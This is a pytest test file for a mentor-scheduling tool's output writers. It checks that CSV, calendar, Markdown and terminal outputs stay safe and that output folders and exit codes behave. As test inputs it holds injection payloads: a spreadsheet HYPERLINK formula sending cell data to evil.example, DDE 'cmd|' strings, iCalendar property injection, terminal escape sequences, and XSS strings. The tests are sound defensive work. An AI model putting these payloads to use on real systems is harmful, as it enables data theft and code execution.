"""Issue 11, the output side: each case as the issue wrote it.

1 a what-if never writes where a solve writes; 2 CSV formula injection;
3 calendar text escaping; 4 feeds of removed subjects; 5 staged runs, the lock,
killed runs' staging; 8 exit codes; 9 reserved file names, ``...yaml``, escape
sequences, HTML in Markdown, NUL, ``check``'s reason and ``25:99``.

Most cases render a hand-made plan of the example (``plan_fixtures``) with the
names changed on the Problem, so they hold whatever the input layer later
refuses; the CLI cases solve the tiny cluster for a couple of seconds."""

from __future__ import annotations

import csv
import importlib
import io
import json
import os
import re
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from clusters import EXAMPLE, dump, minimal
from icalendar import Calendar
from plan_fixtures import example_plan

import mentor_sched.solver
from mentor_sched import load
from mentor_sched.check import check
from mentor_sched.cli import EXIT_BAD_INPUT, EXIT_BUSY, main
from mentor_sched.outputs import (
    OutputBusy,
    OutputFolder,
    default_out_dir,
    runs_dir,
    write_outputs,
)
from mentor_sched.plan import Plan, PlanFormatError, Unmet
from mentor_sched.render.ics import GRACE, write_feeds
from mentor_sched.render.reports import report_markdown, write_reports
from mentor_sched.render.terminal import week_grid

NOW = datetime(2027, 1, 1, 12, tzinfo=UTC)
ACCEPT = lambda plan: []  # noqa: E731  (a hand-made plan covers two weeks only)


def renamed(problem, schools=None, people=None, mentors=None, name=None):
    """``problem`` with some names changed ({id: new name})."""

    def named(items, new):
        return {k: replace(v, name=new.get(k, v.name)) for k, v in items.items()}

    return replace(
        problem,
        name=problem.name if name is None else name,
        schools=named(problem.schools, schools or {}),
        people=named(problem.people, people or {}),
        mentors=named(problem.mentors, mentors or {}),
    )


@pytest.fixture(scope="module")
def example():
    problem = load(EXAMPLE)
    return problem, example_plan(problem)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """The tiny cluster solved once by the CLI: (cluster path, output folder)."""
    tmp = tmp_path_factory.mktemp("tiny")
    path = tmp / "tiny.yaml"
    path.write_text(dump(minimal()), encoding="utf-8")
    out = tmp / "out"
    run = CliRunner().invoke(
        main, ["solve", str(path), "--out", str(out), "--time-limit", "3", "-q"]
    )
    assert run.exit_code == 0, run.output
    return path, out


def no_solve(monkeypatch):
    """Make any solve fail loudly: the case must be refused before solving."""

    def boom(*args, **kwargs):
        raise AssertionError("the solver was called")

    monkeypatch.setattr(mentor_sched.solver, "solve", boom)


def files(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


# -- 1. a what-if never writes where a solve writes ------------------------------------

WHATIF = {
    "version": 1,
    "whatif": "Ann away in week 2",
    "base": "../term.yaml",
    "changes": {"away": [{"who": "em-ann", "from": "2027-01-11", "to": "2027-01-15"}]},
}


@pytest.fixture
def term(tmp_path, monkeypatch):
    """The issue's case: ``whatifs/term.yaml`` whose base is ``../term.yaml``,
    the base solved into its default folder ``out/term``."""
    monkeypatch.chdir(tmp_path)
    Path("term.yaml").write_text(dump(minimal()), encoding="utf-8")
    Path("whatifs").mkdir()
    Path("whatifs/term.yaml").write_text(yaml.safe_dump(WHATIF), encoding="utf-8")
    run = CliRunner().invoke(main, ["solve", "term.yaml", "--time-limit", "3", "-q"])
    assert run.exit_code == 0, run.output
    return tmp_path


def test_a_whatif_named_like_its_base_leaves_the_live_plan_alone(term):
    live = files(Path("out/term"))
    run = CliRunner().invoke(
        main, ["whatif", "whatifs/term.yaml", "--time-limit", "3", "-q"]
    )
    assert run.exit_code == 0, run.output
    assert files(Path("out/term")) == live  # plan.json and every feed untouched
    own = Path("out/term.whatifs/term")
    assert (own / "plan.json").is_file() and (own / "whatif.md").is_file()


@pytest.mark.parametrize("out", ["out/term", "out/term/inside", "out/.term.runs"])
def test_whatif_out_at_a_solves_outputs_is_refused(term, monkeypatch, out):
    no_solve(monkeypatch)
    live = files(Path("out/term"))
    run = CliRunner().invoke(main, ["whatif", "whatifs/term.yaml", "--out", out])
    assert run.exit_code == EXIT_BAD_INPUT == 2, run.output
    assert "where a solve writes" in run.stderr
    assert "Traceback" not in run.output
    assert files(Path("out/term")) == live


# -- 2. CSV formula injection ----------------------------------------------------------

EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_PERSON = "+cmd|' /C calc'!A0"


def test_csv_cells_never_start_a_formula(example, tmp_path):
    problem, plan = example
    school = plan.events[0].venue
    person = plan.events[0].people[0]
    evil = renamed(
        problem,
        schools={school: EVIL_SCHOOL},
        people={person: EVIL_PERSON},
        mentors={plan.events[0].mentor: "@SUM(1+1)*cmd|' /C calc'!A0"},
        name="-2+3",
    )
    write_reports(evil, plan, tmp_path)
    numbers = []
    for name in ("events.csv", "report.csv"):
        text = (tmp_path / name).read_text("utf-8")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows for c in row]
        assert "'" + EVIL_SCHOOL in cells, name
        for c in cells:
            if c[:1] in ("=", "+", "@", "\t", "\r"):
                pytest.fail(f"{name}: a formula cell {c!r}")
            if c.startswith("-"):
                numbers.append(float(c))  # only numbers may start with '-'
    assert any(n < 0 for n in numbers)  # a cost difference stays a number


# -- 3. calendar text ------------------------------------------------------------------


def _feed(path: Path) -> Calendar:
    return Calendar.from_ical(path.read_bytes())


def test_names_with_commas_semicolons_backslash_and_newlines_are_escaped(
    example, tmp_path
):
    import vobject

    problem, plan = example
    school = plan.events[0].venue
    evil = renamed(
        problem,
        schools={school: "Alpha, St Mary's; A\\B\nX-INJ:1"},
        name="Cluster\r\nX-INJ:2\n",
    )
    write_feeds(evil, plan, tmp_path, now=NOW)
    raw = (tmp_path / "schools" / f"{school}.ics").read_bytes()
    assert not re.search(rb"^X-INJ", raw, re.M)
    want = "Cluster\nX-INJ:2\n: Alpha, St Mary's; A\\B\nX-INJ:1"
    v = vobject.readOne(raw.decode("utf-8"))
    assert v.contents["x-wr-calname"][0].value == want
    assert v.contents["name"][0].value == want
    location = {
        str(e["LOCATION"])
        for e in _feed(tmp_path / "schools" / f"{school}.ics").walk("VEVENT")
        if "LOCATION" in e
    }
    assert "Alpha, St Mary's; A\\B\nX-INJ:1" in location
    for path in tmp_path.rglob("*.ics"):
        assert not re.search(rb"^X-INJ", path.read_bytes(), re.M), path


def test_no_property_injection_under_python_O(example, tmp_path):
    """With ``python -O`` icalendar's own assert is gone: the escaping must not
    depend on it."""
    script = f"""
import sys; sys.path.insert(0, {str(Path(__file__).parent)!r})
from dataclasses import replace
from mentor_sched import load
from mentor_sched.render.ics import write_feeds
from plan_fixtures import example_plan
p = load({str(EXAMPLE)!r})
p = replace(p, name="Stour\\nX-INJ:1")
write_feeds(p, example_plan(p), __import__("pathlib").Path({str(tmp_path)!r}))
"""
    run = subprocess.run(
        [sys.executable, "-O", "-c", script], capture_output=True, text=True
    )
    assert run.returncode == 0, run.stderr
    feeds = list(tmp_path.rglob("*.ics"))
    assert feeds
    for path in feeds:
        assert not re.search(rb"^X-INJ", path.read_bytes(), re.M), path


def with_names(monkeypatch, **names):
    """Make the CLI load the cluster with names the input layer would not give
    (it strips and checks names; the outputs must be safe without that)."""
    import mentor_sched.cli as cli

    real = cli.load

    def load_renamed(path):
        return renamed(real(path), **names)

    monkeypatch.setattr(cli, "load", load_renamed)


@pytest.mark.parametrize("forced", [False, True], ids=["yaml", "problem"])
def test_a_name_ending_in_a_newline_does_not_crash_solve(tmp_path, monkeypatch, forced):
    """``name: >`` (a folded block) ends in a newline: solve writes the plan (or
    the input layer refuses the name with a message), never a traceback; and
    the outputs are safe even when such a name reaches them."""
    text = dump(minimal()).replace("name: Oak Primary", "name: >\n    Oak Primary")
    assert "name: >" in text
    path = tmp_path / "c.yaml"
    path.write_text(text, encoding="utf-8")
    if forced:
        with_names(monkeypatch, schools={"oak": "Oak Primary\n"}, name="Tiny\n")
    out = tmp_path / "out"
    run = CliRunner().invoke(
        main, ["solve", str(path), "--out", str(out), "--time-limit", "3", "-q"]
    )
    assert run.exit_code in (0, 2), run.output
    assert not isinstance(run.exception, AssertionError)
    if run.exit_code == 0:
        for feed in out.rglob("*.ics"):
            Calendar.from_ical(feed.read_bytes())
    if forced:
        assert run.exit_code == 0, run.output


# -- 4. feeds of removed subjects ------------------------------------------------------


def _statuses(path: Path) -> list[tuple[str, str, int]]:
    cal = _feed(path)
    return [
        (str(v["UID"]), str(v["STATUS"]), int(v["SEQUENCE"]))
        for v in cal.walk("VEVENT")
    ]


def test_feeds_of_a_removed_person_and_school_are_cancelled_then_removed(
    example, tmp_path
):
    problem, plan = example
    out = tmp_path / "out"
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    school = "clare-primary"
    gone_people = {p for p, x in problem.people.items() if x.school == school}
    person = "ect-ben"  # a person of another school, removed on their own
    gone_people.add(person)
    before = {
        rel: _statuses(out / rel)
        for rel in (f"schools/{school}.ics", f"people/{person}.ics")
    }
    assert all(before.values())  # both feeds had confirmed events

    def touched(e) -> bool:
        return e.venue == school or bool(set(e.people) & gone_people)

    smaller = replace(
        problem,
        schools={k: v for k, v in problem.schools.items() if k != school},
        people={k: v for k, v in problem.people.items() if k not in gone_people},
        owed=tuple(o for o in problem.owed if not set(o.people) & gone_people),
    )
    kept = replace(
        plan,
        events=tuple(e for e in plan.events if not touched(e)),
        travel=tuple(t for t in plan.travel if school not in (t.origin, t.dest)),
        unmet=tuple(u for u in plan.unmet if not set(u.people) & gone_people),
    )
    later = NOW + timedelta(days=1)
    write_outputs(smaller, kept, out, now=later, judge=ACCEPT)
    for rel, old in before.items():
        now = _statuses(out / rel)
        assert {u for u, _, _ in now} == {u for u, _, _ in old}, rel
        assert {s for _, s, _ in now} == {"CANCELLED"}, rel
        seq = {u: s for u, _, s in old}
        assert all(s > seq[u] for u, _, s in now), rel  # SEQUENCE went up
    # still within the grace period: still there, still cancelled
    write_outputs(smaller, kept, out, now=later + GRACE / 2, judge=ACCEPT)
    assert (out / f"schools/{school}.ics").is_file()
    # after it: removed
    write_outputs(smaller, kept, out, now=later + GRACE, judge=ACCEPT)
    for rel in before:
        assert not (out / rel).exists(), rel


# -- 5. staged runs, the lock, killed runs ---------------------------------------------


def test_the_output_folder_is_a_link_to_one_complete_run(example, tmp_path):
    problem, plan = example
    out = tmp_path / "out"
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    first = os.readlink(out)
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    assert out.is_symlink() and os.readlink(out) != first
    runs = runs_dir(out)
    assert Path(os.readlink(out)).parent.name == runs.name
    assert not [p for p in runs.iterdir() if p.name.startswith(".staging-")]
    record = json.loads((out / ".run.json").read_text("utf-8"))
    assert record["kind"] == "solve"
    assert Plan.read(out / "plan.json").events == plan.events


def test_a_move_that_fails_leaves_the_previous_run_whole(
    example, tmp_path, monkeypatch
):
    """The issue's case: one file that cannot be moved into place. Now the run is
    one rename: when it fails, every file is the previous run's."""
    import mentor_sched.outputs as outputs

    problem, plan = example
    out = tmp_path / "out"
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    before = files(out)
    moved = replace(plan, events=plan.events[1:])

    def failing(src, dst):
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(outputs.os, "rename", failing)
    with pytest.raises(PermissionError):
        write_outputs(problem, moved, out, now=NOW, judge=ACCEPT)
    assert files(out) == before
    assert not [p for p in runs_dir(out).iterdir() if p.name.startswith(".staging")]


def test_a_second_run_into_a_locked_folder_stops_with_a_message(
    tiny, tmp_path, monkeypatch
):
    path, _ = tiny
    out = tmp_path / "out"
    no_solve(monkeypatch)
    with OutputFolder(out):
        run = CliRunner().invoke(main, ["solve", str(path), "--out", str(out)])
        with pytest.raises(OutputBusy):
            OutputFolder(out).claim()
    assert run.exit_code == EXIT_BUSY == 5, run.output
    assert "another mentor-sched run is writing to" in run.stderr
    assert "Traceback" not in run.output


def test_staging_left_by_a_killed_run_is_removed(example, tmp_path):
    problem, plan = example
    out = tmp_path / "out"
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    left = runs_dir(out) / ".staging-19700101T000000-1"
    (left / "schools").mkdir(parents=True)
    (left / "plan.json").write_text("{half", encoding="utf-8")
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    assert not left.exists()


def test_feed_sequence_carries_across_runs(example, tmp_path):
    problem, plan = example
    out = tmp_path / "out"
    write_outputs(problem, plan, out, now=NOW, judge=ACCEPT)
    e = plan.events[0]
    moved = replace(
        plan, events=(replace(e, start=e.start + 5, end=e.end + 5), *plan.events[1:])
    )
    write_outputs(problem, moved, out, now=NOW + timedelta(days=1), judge=ACCEPT)
    state = json.loads((out / ".feeds-state.json").read_text("utf-8"))["uids"]
    assert [v["sequence"] for v in state.values() if v["id"] == e.id] == [1]


# -- 8. exit codes ---------------------------------------------------------------------


def test_out_below_a_file_is_refused_before_the_solve(tiny, tmp_path, monkeypatch):
    path, _ = tiny
    no_solve(monkeypatch)
    blocker = tmp_path / "notes.txt"
    blocker.write_text("x", encoding="utf-8")
    run = CliRunner().invoke(main, ["solve", str(path), "--out", str(blocker / "out")])
    assert run.exit_code == 2, run.output
    assert "is a file" in run.stderr


def test_read_only_out_is_refused_before_the_solve(tiny, tmp_path, monkeypatch):
    path, _ = tiny
    no_solve(monkeypatch)
    real_mkdir = Path.mkdir

    def read_only(self, *args, **kwargs):
        if str(self).startswith(str(tmp_path / "ro")):
            raise OSError(30, "Read-only file system", str(self))
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", read_only)
    run = CliRunner().invoke(
        main, ["solve", str(path), "--out", str(tmp_path / "ro" / "out")]
    )
    assert run.exit_code == 2, run.output
    assert "Read-only file system" in run.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_is_refused_before_the_solve(tiny, tmp_path, monkeypatch):
    path, _ = tiny
    no_solve(monkeypatch)
    ro = tmp_path / "ro"
    ro.mkdir(mode=0o555)
    run = CliRunner().invoke(main, ["solve", str(path), "--out", str(ro / "out")])
    assert run.exit_code == 2, run.output
    assert "not writable" in run.stderr


@pytest.mark.parametrize(
    "text",
    ["[1,2,3]", "null", "[" * 100_000 + "]" * 100_000, '"plan"'],
    ids=["array", "null", "deep", "string"],
)
def test_check_on_json_that_is_not_a_plan_exits_2(tiny, tmp_path, text):
    path, _ = tiny
    bad = tmp_path / "plan.json"
    bad.write_text(text, encoding="utf-8")
    run = CliRunner().invoke(main, ["check", str(path), str(bad)])
    assert run.exit_code == 2, run.output
    assert "not a mentor-sched plan.json" in run.stderr
    assert run.exception is None or isinstance(run.exception, SystemExit)


def test_a_baseline_that_is_an_array_exits_2(tiny, tmp_path, monkeypatch):
    path, _ = tiny
    no_solve(monkeypatch)
    bad = tmp_path / "base.json"
    bad.write_text("[]", encoding="utf-8")
    run = CliRunner().invoke(
        main, ["solve", str(path), "--baseline", str(bad), "--out", str(tmp_path / "o")]
    )
    assert run.exit_code == 2, run.output
    assert "not a mentor-sched plan.json" in run.stderr


def test_a_baseline_of_another_cluster_is_refused(tiny, tmp_path, monkeypatch):
    path, out = tiny
    no_solve(monkeypatch)
    other = tmp_path / "other.json"
    plan = json.loads((out / "plan.json").read_text("utf-8"))
    plan |= {"cluster": "Another Cluster", "input_sha256": "0" * 64}
    other.write_text(json.dumps(plan), encoding="utf-8")
    run = CliRunner().invoke(
        main,
        ["solve", str(path), "--baseline", str(other), "--out", str(tmp_path / "o")],
    )
    assert run.exit_code == 2, run.output
    assert "'Another Cluster', not of 'Tiny Cluster'" in run.stderr


def test_base_pointing_at_a_whatif_file_exits_2_with_a_message(term):
    Path("whatifs/again.yaml").write_text(
        yaml.safe_dump(WHATIF | {"base": "term.yaml"}), encoding="utf-8"
    )
    run = CliRunner().invoke(main, ["whatif", "whatifs/again.yaml"])
    assert run.exit_code == 2, run.output
    assert "is a what-if file, not a cluster file" in run.stderr


# -- 9. smaller ------------------------------------------------------------------------


def test_reserved_windows_names_keep_the_id_with_a_safe_file_name(tmp_path):
    data = minimal()
    text = (
        dump(data)
        .replace("oak", "con")
        .replace("ect-al", "nul")
        .replace("em-ann", "com1")
    )
    path = tmp_path / "c.yaml"
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    run = CliRunner().invoke(
        main, ["solve", str(path), "--out", str(out), "--time-limit", "3", "-q"]
    )
    assert run.exit_code == 0, run.output
    names = {p.relative_to(out).as_posix() for p in out.rglob("*.ics")}
    assert {"schools/con_.ics", "people/nul_.ics", "mentors/com1_.ics"} <= names
    assert not {"schools/con.ics", "people/nul.ics", "mentors/com1.ics"} & names
    plan = json.loads((out / "plan.json").read_text("utf-8"))
    assert {e["mentor"] for e in plan["events"]} == {"com1"}  # the id is kept


def test_a_cluster_file_named_dots_yaml_never_writes_into_the_current_folder(
    tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    assert (
        default_out_dir(Path("...yaml"), Path("out")).resolve().parent
        == tmp_path / "out"
    )
    Path("...yaml").write_text(dump(minimal()), encoding="utf-8")
    run = CliRunner().invoke(main, ["solve", "...yaml", "--time-limit", "3", "-q"])
    assert run.exit_code == 0, run.output
    assert not Path("plan.json").exists()
    assert (default_out_dir(Path("...yaml"), Path("out")) / "plan.json").is_file()


ESC_NAME = "Ann \x1b]0;pwned\x07\x1b[2J Lee"


def test_escape_sequences_in_names_never_reach_the_terminal_from_solve(
    tmp_path, monkeypatch
):
    path = tmp_path / "c.yaml"
    path.write_text(dump(minimal()), encoding="utf-8")
    with_names(
        monkeypatch,
        mentors={"em-ann": ESC_NAME},
        schools={"oak": ESC_NAME},
        name=ESC_NAME,
    )
    run = CliRunner().invoke(
        main, ["solve", str(path), "--out", str(tmp_path / "o"), "--time-limit", "3"]
    )
    assert run.exit_code == 0, run.output
    assert "Ann ]0;pwned" in run.output  # the name, without its escapes
    assert "\x1b" not in run.output and "\x07" not in run.output


def test_escape_sequences_in_names_never_reach_the_terminal_from_show(example):
    problem, plan = example
    evil = renamed(
        problem,
        schools={s: ESC_NAME for s in problem.schools},
        people={p: ESC_NAME for p in problem.people},
        mentors={m: ESC_NAME for m in problem.mentors},
    )
    week = problem.calendar.week_of[plan.events[0].date]
    for width in (60, 160):
        text = week_grid(evil, plan, week, None, None, width, True)
        assert "\x07" not in text and "\x1b]" not in text
        assert not re.search(r"\x1b(?!\[\d+m)", text)  # only our own colours


def test_escape_sequences_in_a_whatif_never_reach_the_terminal(term, monkeypatch):
    w = importlib.import_module("mentor_sched.whatif")  # the module, not whatif()
    real = w.load_whatif

    def load_escaped(path):
        wi = real(path)
        return replace(
            wi, title=ESC_NAME, base=renamed(wi.base, mentors={"em-ann": ESC_NAME})
        )

    monkeypatch.setattr(w, "load_whatif", load_escaped)
    run = CliRunner().invoke(main, ["whatif", "whatifs/term.yaml", "--time-limit", "3"])
    assert run.exit_code == 0, run.output
    assert "Ann ]0;pwned" in run.output
    assert "\x1b" not in run.output and "\x07" not in run.output


HTML = "<img src=x onerror=alert(1)>"


def assert_inert_markdown(text: str) -> None:
    """No raw HTML tag and no link: every ``<`` and every ``](`` is escaped."""
    assert not re.search(r"(?<!\\)<[A-Za-z/!]", text), text
    assert not re.search(r"(?<!\\)\]\(", text), text
    assert not re.search(r"(?<!\\)<(?:javascript|https?):", text), text


LINK = "[click me](javascript:alert(1))"


def test_raw_html_and_javascript_links_are_escaped_in_report_md(example):
    problem, plan = example
    school = plan.events[0].venue
    evil = renamed(
        problem,
        schools={school: HTML},
        mentors={plan.events[0].mentor: LINK},
        name="<script>alert(1)</script>",
    )
    text = report_markdown(evil, plan)
    assert_inert_markdown(text)
    assert "\\<img src=x onerror=alert(1)\\>" in text  # shown as written


def test_raw_html_and_javascript_links_are_escaped_in_whatif_md(term):
    Path("whatifs/html.yaml").write_text(
        yaml.safe_dump(WHATIF | {"whatif": f"{HTML} {LINK}"}), encoding="utf-8"
    )
    run = CliRunner().invoke(
        main, ["whatif", "whatifs/html.yaml", "--time-limit", "3", "-q"]
    )
    assert run.exit_code == 0, run.output
    text = Path("out/term.whatifs/html/whatif.md").read_text("utf-8")
    assert_inert_markdown(text)
    assert "What if: \\<img" in text


def test_nul_never_reaches_ics_html_or_csv(example, tmp_path):
    problem, plan = example
    evil = renamed(
        problem,
        schools={s: f"A\x00B {s}" for s in problem.schools},
        people={p: f"P\x00Q {p}" for p in problem.people},
        mentors={m: "M\x00N" for m in problem.mentors},
        name="C\x00D",
    )
    out = tmp_path / "out"
    write_outputs(evil, plan, out, now=NOW, judge=ACCEPT)
    for path in out.rglob("*"):
        if path.suffix in (".ics", ".html", ".csv", ".md"):
            assert b"\x00" not in path.read_bytes(), path


def test_check_rejects_an_empty_unmet_reason(tiny):
    path, out = tiny
    problem = load(path)
    plan = Plan.read(out / "plan.json")
    e = plan.events[0]
    unmet = Unmet(e.id, e.demand, e.people, e.period, "")
    broken = replace(plan, events=plan.events[1:], unmet=(*plan.unmet, unmet))
    found = [v for v in check(problem, broken) if "reason" in v.message]
    assert [(v.rule, v.event) for v in found] == [("accounting", e.id)]


def test_a_time_of_25_99_is_invalid_not_26_39(tiny, tmp_path):
    path, out = tiny
    data = json.loads((out / "plan.json").read_text("utf-8"))
    data["events"][0]["start"] = "25:99"
    with pytest.raises(PlanFormatError, match="25:99"):
        Plan.from_json(data)
    bad = tmp_path / "plan.json"
    bad.write_text(json.dumps(data), encoding="utf-8")
    run = CliRunner().invoke(main, ["check", str(path), str(bad)])
    assert run.exit_code == 2, run.output
    assert "25:99" in run.stderr


def test_an_unexpected_error_exits_4_with_a_message_not_1(tmp_path):
    """A crash after the solve (here a renderer raises) in the real program:
    exit 4 and a message, never 1 (``check``'s "violations found")."""
    cluster = tmp_path / "c.yaml"
    cluster.write_text(dump(minimal()), encoding="utf-8")
    script = tmp_path / "crash.py"
    script.write_text(
        "import mentor_sched.outputs as outputs\n"
        "def boom(*args, **kwargs):\n"
        "    raise RuntimeError('renderer exploded')\n"
        "outputs.write_timetable = boom\n"
        "from mentor_sched.cli import main\n"
        "main()\n",
        encoding="utf-8",
    )
    args = ["solve", str(cluster), "--out", str(tmp_path / "o"), "--time-limit", "3"]
    env = {k: v for k, v in os.environ.items() if k != "MENTOR_SCHED_TRACEBACK"}
    run = subprocess.run(
        [sys.executable, str(script), *args], capture_output=True, text=True, env=env
    )
    assert run.returncode == 4, run.stderr
    assert "internal error: RuntimeError: renderer exploded" in run.stderr
    assert "Traceback" not in run.stderr
    assert not (tmp_path / "o" / "plan.json").exists()
